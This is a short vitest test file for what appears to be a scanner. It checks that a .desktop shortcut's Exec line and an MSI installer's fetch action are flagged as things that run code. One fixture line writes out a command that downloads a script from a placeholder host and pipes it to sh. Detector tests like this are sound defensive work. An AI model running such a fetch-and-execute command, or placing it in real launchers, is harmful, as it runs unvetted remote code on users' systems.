import { expect, test } from 'vitest'
import { fixture } from '../installers/testing.ts'
import { fileOf } from '../testing.ts'

test('what a shortcut runs is a start of its own', async () => {
  const { starts, acts } = await fileOf(
    'a.desktop',
    '[Desktop Entry]\nExec=curl -s http://a.invalid/a.sh | sh\n',
  )
  expect(starts).toMatchObject([
    { trigger: 'start', by: 'opening a.desktop', runs: { as: 'command', shell: 'sh' } },
  ])
  expect(acts.some(({ kind, trail }) => kind === 'run-code' && trail?.start.by === 'opening a.desktop')).toBe(
    true,
  )
})

test('and so is what an installer package runs', async () => {
  const { starts } = await fileOf('a.msi', fixture('actions.msi'))
  expect(starts).toMatchObject([
    { trigger: 'install', by: 'the installer a.msi', where: { part: 'action Fetch' } },
  ])
})
